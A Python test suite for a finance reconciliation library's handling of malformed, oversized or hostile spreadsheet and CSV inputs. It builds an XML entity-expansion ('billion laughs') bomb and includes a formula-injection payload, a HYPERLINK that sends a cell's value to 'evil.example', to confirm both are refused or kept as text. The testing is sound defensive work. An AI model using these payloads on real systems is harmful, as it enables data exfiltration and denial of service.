"""Untrusted sources: what a malformed, oversized or hostile file gets is a WorkbookError
naming the file, the sheet and the row (or cell); never a crash, never a silent guess. And
text from a source lands in the analysis as text, even when it looks like a formula."""

from __future__ import annotations

import csv
import re
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from pydantic import ValidationError

from mcos.finance import (
    AnalysisSpec,
    Limits,
    Match,
    Side,
    SourceRef,
    WorkbookError,
    analyse,
    open_table,
    reconcile,
    write_report,
)


def workbook(path: Path, rows: list[list[object]], sheet: str = "Data") -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    ws.title = sheet
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_all(source: SourceRef, limits: Limits | None = None) -> list[tuple[object, ...]]:
    with open_table(source, limits=limits) as table:
        return [values for _n, values in table.rows()]


def refused(source: SourceRef, limits: Limits | None = None) -> str:
    with pytest.raises(WorkbookError) as caught:
        read_all(source, limits)
    return caught.value.message


def totals(left: Path, right: Path, right_sheet: str | None = None) -> Match:
    return Match(
        name="budget vs actual",
        compare="totals",
        left=Side(path=str(left), sheet=None, key=["line"], month="month", amount="amount"),
        right=Side(
            path=str(right), sheet=right_sheet, key=["line"], month="month", amount="amount"
        ),
    )


def test_a_bad_amount_names_its_cell(tmp_path: Path) -> None:
    left = workbook(
        tmp_path / "budget.xlsx", [["line", "month", "amount"], ["Fibre", "2026-01", 10]]
    )
    right = workbook(
        tmp_path / "actuals.xlsx",
        [["line", "month", "amount"], ["Fibre", "2026-01", 4], ["Fibre", "2026-01", "n/a"]],
        sheet="Transactions",
    )
    with pytest.raises(WorkbookError) as caught:
        reconcile(totals(left, right, right_sheet="Transactions"))
    assert caught.value.message == f"{right}!Transactions!C3: 'n/a' is not an amount"


def test_a_bad_date_in_a_csv_names_row_and_column(tmp_path: Path) -> None:
    left = write_csv(tmp_path / "b.csv", [["line", "month", "amount"], ["Fibre", "2026-01", "1"]])
    right = write_csv(
        tmp_path / "bank.csv",
        [
            ["line", "month", "amount"],
            ["Fibre", "15/01/2026", "R 1,000.50"],
            ["Fibre", "soon", "1"],
        ],
    )
    with pytest.raises(WorkbookError, match=r"bank\.csv!row 3 col month: 'soon' is not a date"):
        reconcile(totals(left, right))


def test_amounts_and_months_in_the_forms_people_write_them(tmp_path: Path) -> None:
    left = write_csv(
        tmp_path / "b.csv", [["line", "month", "amount"], ["Fibre", "Jan 2026", "100"]]
    )
    right = write_csv(
        tmp_path / "a.csv",
        [
            ["line", "month", "amount"],
            ["fibre ", "15/01/2026", "R 1,000.50"],
            ["FIBRE", "2026-01-31", "(900.50)"],
            ["Fibre", "2026/01", "0.25"],
        ],
    )
    result = reconcile(totals(left, right))
    assert (result.matched, result.left_only, result.right_only) == (1, 0, 0)
    assert result.matched_right_total == Decimal("100.25")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"line,month\n", "not an .xlsx workbook"),
        (b"PK\x03\x04 truncated", "not an .xlsx workbook"),
    ],
)
def test_a_file_that_is_not_a_workbook(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "actuals.xlsx"
    path.write_bytes(content)
    assert refused(SourceRef(path=str(path))).startswith(f"{path}: {said}")


def test_a_missing_sheet_or_column_lists_what_there_is(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", [["Cost line", "Amount"], ["Fibre", 1]], sheet="Budget")
    message = refused(SourceRef(path=str(path), sheet="Actuals"))
    assert message == f"{path}: no sheet 'Actuals'; its sheets are 'Budget'"
    side = Side(path=str(path), key=["Line"], amount="Amount")
    other = Side(path=str(path), key=["Cost line"], amount="Amount")
    with pytest.raises(WorkbookError) as caught:
        reconcile(Match(name="m", left=side, right=other))
    assert caught.value.message == (
        f"{path}!Budget: no column 'Line'; the columns are 'Cost line', 'Amount'"
    )


def test_unreadable_csv_text_names_the_row(tmp_path: Path) -> None:
    path = tmp_path / "bank.csv"
    path.write_bytes(b"ref,amount\nA,1\nB\xff\xfe,2\n")
    message = refused(SourceRef(path=str(path)))
    assert message.startswith(f"{path}: row 3 cannot be read as CSV ('utf-8' codec")
    path.write_bytes(b'ref,amount\nA,1\n"B,2\n')
    message = refused(SourceRef(path=str(path)))
    assert message.startswith(f"{path}: row 3 cannot be read as CSV (unexpected end of data")


def test_limits_on_size_rows_and_columns(tmp_path: Path) -> None:
    rows = [["ref", "amount"]] + [[f"R{n}", str(n)] for n in range(50)]
    path = write_csv(tmp_path / "bank.csv", rows)
    source = SourceRef(path=str(path))
    assert len(read_all(source)) == 50
    assert "more than the 100 read" in refused(source, Limits(max_bytes=100))
    assert refused(source, Limits(max_rows=10)) == f"{path}: more than 10 rows; split the file"
    wide = write_csv(tmp_path / "wide.csv", [["a", "b"], ["1"] * 300])
    assert "row 2 has 300 columns, more than the 256 read" in refused(SourceRef(path=str(wide)))


def test_a_workbook_that_unpacks_too_big_is_refused_before_parsing(tmp_path: Path) -> None:
    path = workbook(tmp_path / "big.xlsx", [["a"]] + [["x" * 30_000]] * 10)
    message = refused(SourceRef(path=str(path)), Limits(max_unzipped_bytes=100_000))
    assert "unpacks to" in message and "more than the 100,000 read" in message


def rewrite_sheet(path: Path, change: dict[bytes, bytes]) -> None:
    """Edit the XML of the first sheet in place (what a hostile or broken file could hold);
    ``change`` maps patterns to what replaces their first match."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    for old, new in change.items():
        sheet, done = re.subn(old, new, sheet, count=1)
        assert done, old
    parts["xl/worksheets/sheet1.xml"] = sheet
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_the_files_own_dimension_is_not_trusted(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", [["ref"]] + [[f"R{n}"] for n in range(20)])
    rewrite_sheet(path, {rb'<dimension ref="A1:A21"\s*/>': b'<dimension ref="A1:A2"/>'})
    assert len(read_all(SourceRef(path=str(path)))) == 20, "every row, whatever it claims"


def test_entity_expansion_is_refused_not_expanded(tmp_path: Path) -> None:
    path = workbook(tmp_path / "bomb.xlsx", [["ref"], ["x"]])
    entities = b"".join(
        b'<!ENTITY e%d "&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;">'
        % ((n,) + (n - 1,) * 10)
        for n in range(1, 10)
    )
    bomb = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "laugh">' + entities + b"]>"
    rewrite_sheet(path, {b"<worksheet ": bomb + b"<worksheet ", b"<t>x</t>": b"<t>&e9;</t>"})
    with pytest.raises(WorkbookError) as caught:
        read_all(SourceRef(path=str(path)))
    message = caught.value.message
    assert message.startswith(f"{path}"), message
    assert "Entit" in message or "amplification" in message, "defusedxml's refusal, or expat's"


def test_an_old_excel_file_and_a_sheet_of_a_csv_are_refused(tmp_path: Path) -> None:
    assert "only .xlsx and .csv files are read (save it as .xlsx)" in refused(
        SourceRef(path=str(tmp_path / "old.xls"))
    )
    path = write_csv(tmp_path / "bank.csv", [["a"], ["1"]])
    assert refused(SourceRef(path=str(path), sheet="Sheet1")).endswith("a CSV file has no sheets")


def test_a_spec_whose_sides_disagree_is_refused_naming_why() -> None:
    with pytest.raises(ValidationError, match="as many key columns"):
        Match(
            name="m", left=Side(path="a.csv", key=["a", "b"]), right=Side(path="b.csv", key=["a"])
        )
    with pytest.raises(ValidationError, match="amount column on both sides"):
        Match(
            name="m",
            left=Side(path="a.csv", key=["a"], amount="x"),
            right=Side(path="b.csv", key=["a"]),
        )


def test_source_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    left = write_csv(tmp_path / "b.csv", [["line", "month", "amount"], [hostile, "2026-01", "5"]])
    right = write_csv(tmp_path / "a.csv", [["line", "month", "amount"], ["=1+2", "2026-01", "7"]])
    spec = AnalysisSpec(variance=totals(left, right))
    out = tmp_path / "analysis.xlsx"
    out.write_bytes(write_report(analyse(spec), str(out)))
    ws = openpyxl.load_workbook(out)["Variance"]
    names = {ws[f"A{n}"].value: ws[f"A{n}"].data_type for n in (2, 3)}
    assert names == {hostile: "s", "=1+2": "s"}, "a name, not a formula"


def test_a_100k_row_csv_is_reconciled_in_bounded_memory(tmp_path: Path) -> None:
    lines = [f"Line {n}" for n in range(20)]
    budget = write_csv(
        tmp_path / "budget.csv",
        [["line", "month", "amount"]] + [[line, "2026-01", "1000"] for line in lines],
    )
    actual = tmp_path / "actuals.csv"
    with actual.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["line", "month", "amount", "memo"])
        for n in range(100_000):
            writer.writerow([lines[n % 20], f"2026-01-{n % 28 + 1:02d}", "0.25", "x" * 60])
    tracemalloc.start()
    try:
        result = reconcile(totals(budget, actual))
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.right.rows == 100_000
    assert result.matched_right_total == Decimal("25000.00")
    assert result.mismatches == 20, "each line spent 1,250 of 1,000"
    # The rows alone are ~10 MB as Python objects; a tally per key stays far below.
    assert peak < 5 * 2**20, f"peak {peak:,} bytes: rows were held, not streamed"
